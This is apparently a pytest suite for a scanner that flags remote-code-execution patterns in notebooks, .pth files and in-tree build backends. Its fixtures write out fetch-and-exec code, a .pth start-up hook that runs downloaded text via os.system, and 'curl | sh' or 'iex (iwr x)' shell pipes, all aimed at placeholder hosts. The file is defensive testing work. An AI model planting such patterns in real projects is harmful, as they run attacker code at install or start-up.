"""Notebooks, .pth files and in-tree build backends (labelled examples are in tests/cases/notebooks,
tests/cases/pth and tests/cases/projects; these tests check positions, notices and messages)."""
from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Dict, List

from rceguard.config import Config
from rceguard.frontends.notebook import transform_cell
from rceguard.report import render
from rceguard.scan import scan

CASES = Path(__file__).parent / "cases"


def _nb(cells: List[Dict[str, Any]], **meta: Any) -> Dict[str, Any]:
    return {"cells": cells, "metadata": meta or {"kernelspec": {"language": "python"}}, "nbformat": 4,
            "nbformat_minor": 5}


def _code(src: Any) -> Dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": src}


FETCH_EXEC = ["import requests\n", "code = requests.get(\"https://x.example/p\").text\n",
              "exec(code, {\"name\": \"\\u00e9t\\u00e9\"})\n"]


def _region_text(raw: str, region: Dict[str, int]) -> str:
    lines = raw.split("\n")
    assert region["startLine"] == region["endLine"]
    return lines[region["startLine"] - 1][region["startColumn"] - 1:region["endColumn"] - 1]


def test_sarif_region_is_the_raw_notebook_text(tmp_path: Path) -> None:
    """Pretty-printed and minified notebooks: the SARIF region selects the sink's text as it is
    written in the .ipynb (JSON escapes included), on the line of the file that holds it."""
    for indent in (1, None):
        nb = tmp_path / f"n{indent}.ipynb"
        raw = json.dumps(_nb([{"cell_type": "markdown", "metadata": {}, "source": "intro"}, _code(FETCH_EXEC)]),
                         indent=indent)
        nb.write_text(raw)
        sarif = json.loads(render("sarif", scan([nb], Config())))
        (res,) = sarif["runs"][0]["results"]
        region = res["locations"][0]["physicalLocation"]["region"]
        assert _region_text(raw, region) == 'exec(code, {\\"name\\": \\"\\\\u00e9t\\\\u00e9\\"})'
        if indent is None:
            assert region["startLine"] == 1
        flow = res["codeFlows"][0]["threadFlows"][0]["locations"][0]["location"]["physicalLocation"]["region"]
        assert _region_text(raw, flow) == 'requests.get(\\"https://x.example/p\\")'


def test_text_report_names_the_cell(tmp_path: Path) -> None:
    nb = tmp_path / "analysis.ipynb"
    nb.write_text(json.dumps(_nb([_code("x = 1"), {"cell_type": "markdown", "metadata": {}, "source": ""},
                                  _code(FETCH_EXEC)]), indent=1))
    result = scan([nb], Config())
    text = render("text", result)
    assert "analysis.ipynb:cell 3:3:1: RCE001" in text
    assert "analysis.ipynb:cell 3:2:8  `requests.get" in text
    (f,) = result.findings
    assert json.loads(render("json", result))["findings"][0]["location"]["label"] == "cell 3:3:1"
    assert f.location.line == nb.read_text().split("\n").index(next(
        ln for ln in nb.read_text().split("\n") if "exec(code" in ln)) + 1


def test_one_string_source_and_cells_in_order(tmp_path: Path) -> None:
    """``source`` as one string; the flow crosses cells; a later cell's definition does not count
    for an earlier cell (cells run top to bottom)."""
    nb = tmp_path / "a.ipynb"
    nb.write_text(json.dumps(_nb([_code("import requests\ndef get():\n    return requests.get('u').text\n"),
                                  _code("eval(get())")])))
    result = scan([nb], Config())
    assert [(f.rule_id, f.location.label) for f in result.findings] == [("RCE001", "cell 2:1:1")]


def test_markdown_and_outputs_are_not_code(tmp_path: Path) -> None:
    nb = tmp_path / "m.ipynb"
    cell = _code(["print('done')\n"])
    cell["outputs"] = [{"output_type": "stream", "name": "stdout",
                        "text": ["import requests; exec(requests.get('u').text)\n"]}]
    nb.write_text(json.dumps(_nb([{"cell_type": "markdown", "metadata": {},
                                   "source": ["import requests\n", "exec(requests.get('u').text)\n"]}, cell])))
    result = scan([nb], Config())
    assert result.findings == [] and result.notices == []


def test_broken_notebook_is_a_notice_and_the_run_goes_on(tmp_path: Path) -> None:
    (tmp_path / "broken.ipynb").write_text('{"cells": [ {"cell_type": "code", "source": ["exec(x)\n"]')
    (tmp_path / "r.ipynb").write_text(json.dumps(_nb([_code("x = 1")]), indent=1), encoding="utf-8")
    (tmp_path / "julia.ipynb").write_text(json.dumps(_nb([_code("x = 1")], kernelspec={"language": "julia"})))
    good = tmp_path / "bad.py"
    good.write_text("import requests\nexec(requests.get('u').text)\n")
    result = scan([tmp_path], Config())
    assert [f.location.path for f in result.findings] == ["bad.py"]
    msgs = {n.path: n.message for n in result.notices}
    assert msgs["broken.ipynb"].startswith("not a valid notebook: broken JSON")
    assert "julia, not Python" in msgs["julia.ipynb"]
    assert all("\n" not in m for m in msgs.values())
    assert result.files_scanned == 2


def test_a_cell_with_a_syntax_error_does_not_hide_the_others(tmp_path: Path) -> None:
    nb = tmp_path / "s.ipynb"
    nb.write_text(json.dumps(_nb([_code("def broken(:\n"), _code(FETCH_EXEC)]), indent=1))
    result = scan([nb], Config())
    assert [f.rule_id for f in result.findings] == ["RCE001"]
    (n,) = result.notices
    raw = nb.read_text().split("\n")
    assert n.message.startswith("cell 1: syntax error") and raw[n.line - 1].strip().startswith('"source": "def broken(')


def test_ipython_syntax() -> None:
    lines, shell, kind = transform_cell([
        "%matplotlib inline", "x = !ls", "%time y = 1", "obj?", "s = '''", "!not a command", "'''",
        "  !curl https://x | sh", "%sx wget -qO- http://x | bash"])
    assert kind == "python"
    assert lines[:4] == ["pass", "x = None", "pass; y = 1", "pass"]
    assert lines[5] == "!not a command"  # inside a string: left alone
    assert [(k, c) for k, c, _, _ in shell] == [(1, 5), (7, 3), (8, 4)]
    assert transform_cell(["%%bash", "curl x \\", " | sh"])[1:] == ([(1, 0, "curl x \\\n | sh", False)], "shell")
    assert transform_cell(["%%powershell", "iex (iwr x)"])[1] == [(1, 0, "iex (iwr x)", True)]
    assert transform_cell(["%%writefile a.py", "exec(x)"]) == (["", ""], [], "other")
    assert transform_cell(["%%time", "exec(x)"])[0] == ["", "exec(x)"]


def test_suppression_comment_in_a_cell(tmp_path: Path) -> None:
    nb = tmp_path / "q.ipynb"
    src = FETCH_EXEC[:2] + ["exec(code)  # rceguard: ignore[RCE001] reviewed\n",
                            "!curl -s https://x.example/i | sh  # rceguard: ignore[RCE004]\n"]
    nb.write_text(json.dumps(_nb([_code(src)]), indent=1))
    result = scan([nb], Config())
    assert result.findings == [] and result.suppressed == 2


def test_directory_walk_picks_up_notebooks_and_pth_but_not_checkpoints(tmp_path: Path) -> None:
    body = json.dumps(_nb([_code(FETCH_EXEC)]), indent=1)
    (tmp_path / "nb.ipynb").write_text(body)
    (tmp_path / ".ipynb_checkpoints").mkdir()
    (tmp_path / ".ipynb_checkpoints" / "nb-checkpoint.ipynb").write_text(body)
    (tmp_path / "hook.pth").write_text("import os; os.system(__import__('urllib.request').request.urlopen('u').read())\n")
    result = scan([tmp_path], Config())
    assert result.files_scanned == 2
    # the .pth line fetches through __import__("urllib.request").request and runs it as a command
    assert [f.location.path for f in result.findings] == ["hook.pth", "nb.ipynb"]


# ------------------------------------------------------------------------------------ .pth


def test_pth_lines_run_at_start_up() -> None:
    result = scan([CASES / "pth" / "startup_hook.pth"], Config())
    assert {f.rule_id for f in result.findings} == {"RCE001", "RCE005"}
    assert all("runs at every interpreter start-up" in f.message for f in result.findings)


def test_pth_follows_site_rules(tmp_path: Path) -> None:
    """Only lines starting exactly with ``import `` / ``import\\t`` run; lines are split like
    str.splitlines() (a form feed starts a line); the first line that fails stops site.py."""
    pth = tmp_path / "x.pth"
    pth.write_bytes(b"some/path\fimport base64;exec(base64.b64decode('cHJpbnQoMSk='))\n"
                    b" import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n"
                    b"import (\n"
                    b"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n")
    result = scan([pth], Config())
    assert [(f.rule_id, f.location.line, f.location.col) for f in result.findings] == [("RCE005", 1, 25)]
    (n,) = result.notices
    assert n.line == 3 and "site.py stops reading the file there" in n.message


def test_pth_negatives() -> None:
    for name in ("distutils-precedence.pth", "paths.pth"):
        result = scan([CASES / "pth" / name], Config())
        assert result.findings == [] and result.notices == [], name


# ------------------------------------------------------------------------- build backends


def _backend_project(tmp_path: Path, folder: str) -> Path:
    (tmp_path / "pyproject.toml").write_text(
        f'[build-system]\nrequires = []\nbuild-backend = "mybackend.hooks:api"\nbackend-path = ["{folder}"]\n')
    pkg = tmp_path / folder / "mybackend"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text("")
    (pkg / "hooks.py").write_text("import urllib.request\n"
                                  "def build_wheel(d, c=None, m=None):\n"
                                  "    exec(urllib.request.urlopen('https://x.example/h.py').read())\n")
    return pkg / "hooks.py"


def test_in_tree_backend_is_install_time_code_even_in_a_skipped_folder(tmp_path: Path) -> None:
    hooks = _backend_project(tmp_path, "build")  # a walk skips build/, the backend is still read
    result = scan([tmp_path], Config())
    (f,) = result.findings
    assert f.location.path == "build/mybackend/hooks.py"
    assert "This runs at install time (in-tree build backend named in pyproject.toml)." in f.message
    # naming pyproject.toml scans its backend (and pyproject.toml is not read as Python)
    result = scan([tmp_path / "pyproject.toml"], Config())
    assert [x.location.path for x in result.findings] == ["build/mybackend/hooks.py"] and not result.notices
    # the same module without the backend-path entry: an ordinary module
    (tmp_path / "pyproject.toml").write_text('[build-system]\nbuild-backend = "setuptools.build_meta"\n')
    (f,) = scan([hooks], Config()).findings
    assert "install time" not in f.message


def test_backend_path_outside_the_project_is_ignored(tmp_path: Path) -> None:
    _backend_project(tmp_path, "tools")
    (tmp_path / "pyproject.toml").write_text(
        '[build-system]\nbuild-backend = "mybackend.hooks"\nbackend-path = ["../tools", "/abs"]\n')
    (f,) = scan([tmp_path], Config()).findings
    assert "install time" not in f.message
